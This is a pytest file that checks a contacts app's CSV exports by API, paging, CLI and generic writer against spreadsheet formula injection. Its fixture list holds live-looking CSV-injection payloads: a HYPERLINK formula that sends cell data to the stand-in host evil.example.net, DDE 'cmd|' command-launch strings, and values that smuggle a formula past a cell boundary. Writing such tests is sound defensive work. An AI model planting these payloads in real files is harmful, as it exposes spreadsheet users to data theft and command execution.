"""What strangers typed reaches a spreadsheet as text, by every door that writes CSV."""

import csv
import io
import logging
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadwell.cli.main import main
from leadwell.contacts.membership import EVERYONE
from leadwell.delimited import rows_of, written_rows
from leadwell.segments.listing import list_members
from leadwell.wiring import use
from tests.fakes.world import World
from tests.unit.console.signed_in import SignedIn

FORMULAS = [
    '=HYPERLINK("https://evil.example.net/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    'x","=1+1',
    'x\r\n=1+1,"',
]
_STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture
def world() -> World:
    world = World()
    for number, formula in enumerate(FORMULAS):
        traits = {"email": f"p{number}@example.com", "firstName": formula, "lastName": formula, "note": formula}
        world.post(world.identify(f"p{number}", **traits), world.consent(f"p{number}"))
    return world


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def check(text: str) -> None:
    rows = cells(text)
    assert len(rows) == len(FORMULAS) + 1 and {len(row) for row in rows} == {11}, "nobody breaks out of a cell"
    assert not [cell for row in rows for cell in row if cell.lstrip(" ").startswith(_STARTS)]
    typed = {row[4].removeprefix("'") for row in rows}
    assert set(FORMULAS) <= typed, "what they typed is still to be read"


def test_by_the_api(world: World, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    for path in ("/api/contacts/csv", "/api/segments/newsletter/members/csv"):
        answer = SignedIn(world).get(path, traits="note")
        assert answer.status == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert "attachment" in answer.headers["content-disposition"]
        check(answer.body)
    assert any(item["what"] == "contacts.exported" for item in world.table.items("AUDIT"))
    assert "cmd|" not in caplog.text and "example.com" not in caplog.text


def test_by_pages(world: World) -> None:
    cursor, seen = "", []
    while True:
        query = {"limit": 5, **({"cursor": cursor} if cursor else {})}
        answer = SignedIn(world).get("/api/contacts/csv", **query)
        seen += cells(answer.body)
        cursor = answer.headers.get("leadwell-cursor", "")
        if not cursor:
            break
    assert seen[0][0] == "contact" and len(seen) == len(FORMULAS) + 1


def test_by_the_command_line(world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    use(world.services)
    try:
        for command in (["segments", "members", "newsletter"], ["contacts", "list"]):
            main([*command, "--csv", str(tmp_path / "out.csv"), "--trait", "note"])
            check((tmp_path / "out.csv").read_bytes().decode("utf-8-sig"))
    finally:
        use(None)
    assert list_members(world.table, EVERYONE, limit=50).members
    assert "lines" in capsys.readouterr().out


@given(
    st.lists(st.lists(st.one_of(st.text(max_size=12), st.integers(), st.none()), min_size=1, max_size=4), max_size=4)
)
def test_no_cell_is_a_formula_and_none_is_lost(rows: list[list[object]]) -> None:
    written = cells(written_rows(rows))
    assert [len(row) for row in written] == [len(row) for row in rows]
    for before, after in zip(rows, written, strict=True):
        for one, cell in zip(before, after, strict=True):
            if isinstance(one, str):
                assert not cell.lstrip(" ").startswith(_STARTS) and cell.removeprefix("'").endswith(
                    one.replace("\x00", "").removeprefix("'")
                )


def test_files_that_come_in_keep_such_values() -> None:
    """They are text here; only who opens them elsewhere is protected, by what goes out."""
    (_, row) = rows_of("name;note\n=1+1;+49\n", "list.csv")
    assert list(row.cells) == ["=1+1", "+49"]
